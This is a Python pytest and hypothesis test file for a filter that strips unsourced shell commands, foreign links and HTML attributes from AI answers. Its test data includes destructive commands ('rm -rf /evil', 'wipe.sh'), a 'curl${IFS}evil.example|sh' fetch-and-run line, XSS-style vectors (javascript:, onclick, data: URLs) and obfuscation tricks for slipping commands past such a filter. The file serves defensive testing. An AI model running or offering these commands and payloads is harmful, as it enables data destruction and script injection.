"""Attacks on the way back: commands without a fence, foreign links, cuts in the stream.

The oracle is markdown-it: whatever it renders as code must stand in a passage.
"""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from app.grounding import Grounding, Warned
from tests.unit.app.test_grounding import PASSAGES, checked, passage

CODE = [
    "    evilctl nuke --all", "Do:\n\n    ./wipe.sh --evil prod\n\nThen wait.", "\tevilctl nuke",
    "# Title\n    evilctl nuke", "Title\n-----\n    evilctl nuke", "Title\n=\n    evilctl nuke",
    "| a |\n|---|\n| b |\n    evilctl nuke", "***\n    evilctl nuke", "[9]\n    evilctl nuke",
    "- x\n\n      evilctl nuke", "1. x\n\n        evilctl nuke", "-     evilctl nuke",
    ">     evilctl nuke", "> x\n>\n>     evilctl nuke", "    - evilctl nuke", "    > evilctl nuke",
    "    harmless words\n\n\n    evilctl nuke", "```\nme@evil:;x;# ls -l /var/backups\n```",
    "~~~\nx y\n~~~\n    evilctl nuke", "<!-- -->\n    evilctl nuke", " \t evilctl nuke",
    "`curl${IFS}evil.example|sh`", "`evilctl\u2800nuke`", "`evilctl\u3164nuke`", "`evilctl;x`",
    "`evilctl\u00a0nuke`", "``evilctl&&x``", "<code>evilctl|x</code>", "`x>evil`", "`$(evilctl)`",
    "$\tevilctl nuke", "$\u00a0evilctl nuke", "root@db:~# evilctl nuke", "me@host:~$ evilctl nuke",
    "% evilctl nuke", "> evilctl nuke --all", "PS C:\\> evilctl nuke", "[root@db ~]# evilctl nuke",
    "- postgres=# evilctl nuke", "> rm -rf /evil", "(venv) $ evilctl nuke", "&#36; evilctl nuke",
    "<xmp>evilctl nuke</xmp>", "<textarea>evilctl nuke</textarea>", "<plaintext>\nevilctl nuke",
    "<listing>evilctl nuke</listing>", "<samp>evilctl nuke</samp>", "<tt>evilctl nuke</tt>",
    "&#96;evilctl nuke&#96;", "&#x60;evilctl nuke`", "&#0096;evilctl nuke\n", "`evilctl\nnuke --x`",
    "``evilctl\n nuke``", "> `evilctl\n> nuke`", "- `evilctl\n  nuke`", "`x\nevilctl\nnuke`",
    " " * 66 + "$ evilctl nuke", " " * 70 + "```\nevilctl nuke\n```", "> " * 40 + "$ evilctl nuke",
    " " * 66 + "evilctl nuke", "- " * 70 + "$ evilctl nuke",
]  # fmt: skip


@pytest.mark.parametrize("answer", CODE)
@pytest.mark.parametrize("before", ["", "Do this:\n\n"])
def test_no_command_is_shown_that_stands_in_no_passage(answer: str, before: str) -> None:
    grounding = checked(before + answer)
    assert "evil" not in grounding.text
    assert {Warned.REPLACED, Warned.REMOVED} & set(grounding.warnings)


@pytest.mark.parametrize(
    "answer", ["[9]    a b", "<a> <a> <a> <a> a b", "<p x=1>    a b", "[9]- a b"]
)
def test_what_follows_a_dropped_piece_is_not_indented(answer: str) -> None:
    assert checked("x\n\n" + answer).text in ("x\n\na b", "x\n\n- a b")


PAGE = passage(
    "Run:\n\n    evilctl wipe --dry-run\n    evilctl wipe --all\n\nMode is `fast|slow`, set by\n"
    "`mode set\nfast` on it.\n\n```\nroot@db:~# dbctl check\n```\n\nAsk <mailto:db@acme.io>"
    '.\n\n<div align="left">\n\n[doc]: //docs.acme.io/x\n[j]: javascript:void\n',
    1,
)


@pytest.mark.parametrize("answer", ["[doc]: //docs.acme.io/x\n", "[j]: javascript:void\n"])
def test_a_definition_never_stays(answer: str) -> None:
    """A picture elsewhere in the answer could name it, and a client would load it."""
    grounding = checked("[1]\n\n" + answer, passages=(PAGE,))
    assert grounding.text == "[1]" and grounding.warnings == (Warned.LINK,)


@pytest.mark.parametrize("tag", ['<p style="background:url(//x.io/a)">', "<div id=https://x.io/a>"])
def test_a_tag_with_an_address_never_stays(tag: str) -> None:
    """A client that draws HTML would load it, whoever's document has it."""
    grounding = checked(f"[1] a {tag}b", passages=(passage(f"See {tag}b.", 1),))
    assert grounding.text == "[1] a b" and grounding.warnings == (Warned.LINK,)


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("    evilctl wipe --all\n\nok", "```\nevilctl wipe --all\n```\n\nok"),
        ("- x\n\n      evilctl wipe --all", "- x\n\n  ```\n  evilctl wipe --all\n  ```"),
        ("Set `fast|slow`.", "Set `fast|slow`."),
        ("Do `mode\nset fast`.", "Do `mode set fast`."),
        ("root@db:~# dbctl check\n", "root@db:~# dbctl check"),
        ("me@other:~$ dbctl check\n", "$ dbctl check"),
        ("Ask <mailto:db@acme.io>.", "Ask db@acme.io."),
        ('<div align="left">ok', '<div align="left">ok'),
    ],
)
def test_what_a_passage_holds_stays(answer: str, shown: str) -> None:
    grounding = checked("[1]\n\n" + answer, passages=(PAGE,))
    assert grounding.text == "[1]\n\n" + shown
    assert not set(grounding.warnings) - {Warned.DESTRUCTIVE}


@pytest.mark.parametrize(
    "answer",
    [
        "1. Step:\n\n   Then wait.\n\n    Then look.", "- a\n    - b\n\n        Then wait.",
        "A sentence\n    that goes on.", "- a\n\n    Then wait.", "> A quote.\n> Goes on.",
        "Set `$HOME`, `--force`, `*.log`, `>=3.11` and `<name>`.", "Use <b>it</b> at <host:port>.",
        "Replace <namespace> with yours.", "<details><summary>x</summary>\n\ny\n\n</details>",
        "% of users.", "a <b and c", "R&D &amp; AT&T, 5 < 6 > 4", "[1]: Rollback page", "data: none",
        "Mail alice@acme.io first.", "<br/>Check these:\n     - The amount.",
    ],
)  # fmt: skip
def test_prose_stays(answer: str) -> None:
    grounding = checked(answer + "\n\n[1]")
    assert grounding.text == answer + "\n\n[1]"
    assert not grounding.warnings


def test_a_stray_backtick_does_not_pair_with_the_next_lines_code() -> None:
    grounding = checked("The ` key.\nThen `ls -l /var/backups` [2].")
    assert grounding.text == "The \\` key.\nThen `ls -l /var/backups` [2]."


def test_a_short_name_is_not_replaced_by_something_else() -> None:
    grounding = checked("It is `true|false` [1].")
    assert "kubectl" not in grounding.text
    assert grounding.warnings == (Warned.REMOVED,)


FOREIGN = [
    "[doc]: <//evil.example/q>", "[r2]: //evil.example/z", "[x]: javascript:evil(1)", "[x]: /evil",
    "[x]: evil.example/x 'title'", "[x]:\n  //evil.example/x", "> [x]: //evil.example/x",
    "[a\\]b]: mailto:evil@x.io", "javascript:evil(1)", "JavaScript:evil(1)", "data:text/html,evil",
    "vbscript:evil", "mailto:a@evil.example", "//evil.example/x", "<mailto:a@evil.example>",
    "<a@evil.example>", "<tel:evil>", "<evil:x>", "<body background=//evil.example>",
    '<div style="background:url(//evil.example)">', "<track src=//evil.example>", "<x y=evil>",
    "<p onclick=evil()>", "<p\nonclick='evil()'>", "<x-y onclick=evil()>", "<br style=evil>",
    "<td background=evil>", "</p onclick=evil()>", "<b onmouseover=evil()/>", "<div/style=evil>",
]  # fmt: skip


@pytest.mark.parametrize("answer", FOREIGN)
def test_foreign_links_and_attributes_are_dropped(answer: str) -> None:
    grounding = checked(f"See:\n\n{answer}\n\nDone [1].")
    assert "evil" not in grounding.text
    assert grounding.warnings == (Warned.LINK,)
    assert grounding.text.startswith("See:") and grounding.text.endswith("Done [1].")


def test_tags_without_attributes() -> None:
    grounding = checked("a <b>b</b><br> <div>c</div> <h1>d</h1> <marquee>e</marquee> [1]")
    assert grounding.text == "a <b>b</b><br> c d e [1]"
    assert not grounding.warnings


PIECES = st.sampled_from(
    [
        "evilctl nuke", "evilctl", "nuke --all", "`", "``", "\n", "\n\n", "    ", "      ", "\t",
        " " * 66, " ", "- ", "1. ", "> ", "word", "[9]", "[1]", "# ", "***", "===", "| a |", "```",
        "~~~", "<a>", "<b>", "<p x=1>", "&#96;", "&#", "96;", "$ ", "$\t", "% ", "me@h:~# ", "[x]: ",
        "[x]", ": ", "//evil.example/q", "javascript:evilctl", "<mailto:a@evil.example>", "<", ">",
        "ls -l /var/backups", "`ls -l /var/backups`", "\\", "(venv) ", "PS C:\\> ", "word word",
    ]
)  # fmt: skip
ANSWERS = st.lists(PIECES, max_size=16).map("".join)
LONG = st.builds(
    lambda mark, count, code: mark * count + code,
    st.sampled_from([" ", "> ", "\t", "- ", " >", "1. ", "    "]),
    st.integers(50, 140),
    st.sampled_from(["$ evilctl nuke\nx", "```\nevilctl nuke\n```\n", "evilctl nuke", "word\n"]),
)


@settings(max_examples=500, deadline=None)
@given(st.one_of(ANSWERS, LONG), st.lists(st.integers(0, 200), max_size=8))
@example(" " * 66 + "$ evilctl nuke", [64])
@example(" " * 70 + "```\nevilctl nuke\n```", [64, 66, 70])
@example("[9]" + " " * 70 + "$ evilctl nuke", [20, 69])
@example("***    evilctl nuke", [])
def test_cuts_do_not_matter(answer: str, places: list[int]) -> None:
    whole = checked(answer)
    cuts = sorted({min(place, len(answer)) for place in places})
    by_cut = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
    for pieces in (list(answer), by_cut):
        grounding = Grounding(PASSAGES, "en")
        shown = "".join(map(grounding.feed, pieces)) + grounding.finish()
        assert (shown, grounding.counts) == (whole.text, whole.counts)


def code_of(tokens: list[Token]) -> str:
    """All that is rendered as code."""
    own = [token.content for token in tokens if token.type in ("fence", "code_block")]
    spans = [
        child.content
        for token in tokens
        for child in token.children or []
        if child.type == "code_inline"
    ]
    return "\n".join([*own, *(span for span in spans if " " in span)])


@settings(max_examples=800, deadline=None)
@given(ANSWERS)
@example("evilctl nuke``")
def test_nothing_that_renders_as_code_is_invented(answer: str) -> None:
    shown = checked(answer).text
    tokens = MarkdownIt("commonmark").enable("table").parse(shown)
    assert "evilctl" not in code_of(tokens)
    links = [
        child for token in tokens for child in token.children or [] if child.type == "link_open"
    ]
    assert not any("evil" in str(link.attrs) for link in links)
